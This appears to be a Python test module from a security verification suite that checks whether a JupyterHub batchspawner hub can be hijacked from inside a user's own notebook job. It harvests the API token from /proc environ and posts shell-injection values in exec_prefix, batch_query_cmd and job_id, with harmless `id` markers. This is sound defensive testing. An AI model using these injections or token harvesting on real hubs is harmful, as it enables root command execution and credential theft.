"""What a notebook user can do to a batch-spawned hub from inside their own job (HTC-09, HTC-10).

Used by ``runbooks/htcondor/batchspawner.md`` (``CondorSpawner``) and
``runbooks/slurm/batchspawner.md`` (``SlurmSpawner``).  Every function takes a
:class:`~jsv.environments.Situation` on the hub's node with ``.pool`` (a
:class:`~jsv.environments.condor.CondorPool` or
:class:`~jsv.environments.slurm.SlurmCluster`: its ``submit`` hub,
``stock_query_cmd``, ``alices_node()``, ``alices_job()`` and
``alices_job_transcript()``), ``.token`` (alice's notebook token) and
``.server`` (the hub's server model).

The attacker's position is exactly a notebook's: a shell as alice on the
execute node running her job, with the job's own environment
(``JUPYTERHUB_API_TOKEN``, ``JUPYTERHUB_API_URL``) taken from her notebook
process, as code in a notebook cell sees it in ``os.environ``, and its working
directory (the job's sandbox, which holds the notebook's client certificate
when the hub uses ``internal_ssl``).
"""

from __future__ import annotations

import json
from typing import Any

from jsv.claims import Observation
from jsv.environments.command_line import curl_token_header
from jsv.environments.condor import CONDOR_QUERY
from jsv.environments.machine import Machine
from jsv.polling import poll_until
from jsv.redaction import register

MARKERS = "/root"
"""0700 root on the submit node: only the hub's account (root here) can write a marker in it."""
IN_THE_JOB = (
    "pid=$(pgrep -u alice -o -f jupyterhub-singleuser) && "
    "eval \"$(tr '\\0' '\\n' </proc/$pid/environ "
    "| grep -E '^(JUPYTERHUB_API_TOKEN|JUPYTERHUB_API_URL|JUPYTERHUB_SSL_[A-Z_]*|"
    "_CONDOR_JOB_AD|SLURM_JOB_ID)=' "
    '| sed "s/=/=\'/; s/\\$/\'/; s/^/export /")" && '
    'cd "$(readlink /proc/$pid/cwd)" && '
    "cluster=${SLURM_JOB_ID:-$(sed -n 's/^ClusterId = //p' \"$_CONDOR_JOB_AD\")} && "
    "tls=${JUPYTERHUB_SSL_CERTFILE:+--cert $JUPYTERHUB_SSL_CERTFILE --key $JUPYTERHUB_SSL_KEYFILE} && "
)


def attacks(query: str) -> dict[str, tuple[dict[str, str], dict[str, str], str]]:
    """attribute: (body, body that puts the stock value back, marker file), for stock query ``query``."""
    return {
        "batch_query_cmd": (
            {"batch_query_cmd": query + f"; id > {MARKERS}/jsv-marker-query"},
            {"batch_query_cmd": query},
            "jsv-marker-query",
        ),
        "exec_prefix": (
            {"exec_prefix": f"id > {MARKERS}/jsv-marker-prefix; sudo -E -u {{username}}"},
            {"exec_prefix": "sudo -E -u {username}"},
            "jsv-marker-prefix",
        ),
        "job_id": (
            {"job_id": f"$(id > {MARKERS}/jsv-marker-jobid)@CLUSTER@"},
            {"job_id": "@CLUSTER@"},
            "jsv-marker-jobid",
        ),
    }


ATTACKS = attacks(CONDOR_QUERY)


def _servers(pool: Any) -> dict[str, Any]:
    return (pool.submit.api("users/alice")[1] or {}).get("servers", {})


def alices_node(pool: Any) -> Machine:
    """The node running alice's notebook job (the pool reads it from its queue)."""
    return pool.alices_node()


def post_from_the_job(node: Machine, name: str, body: Any) -> tuple[int, str]:
    """POST ``body`` (``@CLUSTER@`` filled in) to ``$JUPYTERHUB_API_URL/batchspawner`` as alice's job."""
    node.put_file(f"/tmp/{name}.json", json.dumps(body), 0o600, owner="alice")
    ran = node.run(
        IN_THE_JOB + f'sed "s/@CLUSTER@/$cluster/g" /tmp/{name}.json '
        f"| curl -sk $tls -w '\\nHTTP %{{http_code}}' {curl_token_header('JUPYTERHUB_API_TOKEN')} "
        "-H 'Content-Type: application/json' --data-binary @- \"$JUPYTERHUB_API_URL/batchspawner\"",
        user="alice",
    )
    code = ran.stdout.rsplit("HTTP ", 1)[-1].strip()
    return (
        int(code) if code.isdigit() else 0
    ), f"$ cat /tmp/{name}.json\n{json.dumps(body)}\n{ran.transcript}"


def _marker(pool: Any, name: str, wait: float) -> tuple[str | None, str]:
    path = f"{MARKERS}/{name}"  # test -s: the shell creates the file a moment before `id` writes to it
    ran = pool.submit.run_when(
        f"test -s {path}", f"test -s {path} && cat {path} && stat -c 'owner %U, mode %a' {path}", wait=wait
    )
    return (ran.stdout.splitlines()[0] if ran.exit_code == 0 else None), ran.transcript


def notebook_sets_hub_commands(target: Any, wait: float = 20) -> Observation:
    """HTC-09: alice's job sets exec_prefix / batch_query_cmd / job_id to shell syntax; did the hub's
    next polls (``Spawner.poll_interval``) write ``id`` to a file under /root?  And does her notebook
    still answer through the hub?"""
    pool = target.pool
    node = alices_node(pool)
    lines = [
        f"# alice's notebook job runs on {node.alias}",
        pool.submit.run(f"ls -ld {MARKERS}; touch {MARKERS}/by-alice", user="alice").transcript,
    ]
    value: dict[str, Any] = {}
    for key, (attack, restore, marker) in attacks(pool.stock_query_cmd).items():
        status, shown = post_from_the_job(node, f"set-{key}", attack)
        written, seen = _marker(pool, marker, wait)
        lines += [shown, seen]
        if status < 300:  # the same endpoint puts the stock value back
            lines.append(post_from_the_job(node, f"restore-{key}", restore)[1])
        value[key] = {"HTTP": status, "marker": written}
    value["alice's server still ready"] = bool(_servers(pool).get("", {}).get("ready"))
    through = pool.submit.run(
        f"curl -sk -o /dev/null -w 'HTTP %{{http_code}}\\n' {curl_token_header('T')} "
        f"{pool.submit.local_url('/user/alice/api/status')}",
        environment={"T": target.token},
    )
    code = through.stdout.rsplit("HTTP ", 1)[-1].strip()
    value["GET /user/alice/api/status through the hub"] = int(code) if code.isdigit() else 0
    lines.append(through.transcript)
    return Observation(value, "\n".join(lines))


def alices_user_token(pool: Any) -> str:
    """alice's own hub token, asked for with her password (``POST /hub/api/users/alice/tokens``)."""
    auth = {
        "auth": {"username": "alice", "password": pool.submit.passwords["alice"]},
        "note": "spawn options",
    }
    pool.submit.put_file("/tmp/alice-auth.json", json.dumps(auth), 0o600)
    ran = pool.submit.run(
        f"curl -sk -X POST -d @/tmp/alice-auth.json {pool.submit.local_url('/hub/api/users/alice/tokens')}"
    )
    return register(json.loads(ran.stdout)["token"], f"alice-user-token-{pool.submit.variant}")


def spawn_with_options(target: Any, options: dict[str, str], timeout: float = 180) -> Observation:
    """HTC-10: alice (re)starts her server through the REST API with ``options`` as the body."""
    pool = target.pool
    token = alices_user_token(pool)
    stop = pool.submit.api("users/alice/server", "DELETE")
    poll_until(lambda: _servers(pool), lambda servers: not servers, timeout=90)
    pool.submit.put_file("/tmp/alice-options.json", json.dumps(options), 0o644)
    started = pool.submit.run(
        f"curl -sk -w 'HTTP %{{http_code}}' -X POST {curl_token_header('T')} "
        f"-d @/tmp/alice-options.json {pool.submit.local_url('/hub/api/users/alice/server')}",
        environment={"T": token},
    )
    poll_until(
        lambda: _servers(pool).get("", {}), lambda s: bool(s.get("ready")), timeout=timeout, interval=1
    )
    value = pool.alices_job()
    return Observation(
        value,
        "\n".join(
            [
                stop[2].transcript,
                f"$ cat /tmp/alice-options.json\n{json.dumps(options)}",
                started.transcript,
                pool.alices_job_transcript(),
            ]
        ),
    )
